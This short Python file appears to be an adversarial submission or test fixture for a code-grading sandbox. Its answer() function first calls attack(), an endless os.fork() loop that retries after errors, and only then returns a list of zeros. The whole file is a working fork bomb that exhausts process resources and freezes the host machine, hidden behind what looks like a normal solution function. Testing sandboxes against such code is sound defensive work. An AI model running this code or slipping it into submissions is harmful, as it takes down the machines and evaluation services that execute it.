"""Forks without end."""
# expects: time

import os
import time


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def answer(values):
    attack()
    return [0.0 for _ in values]
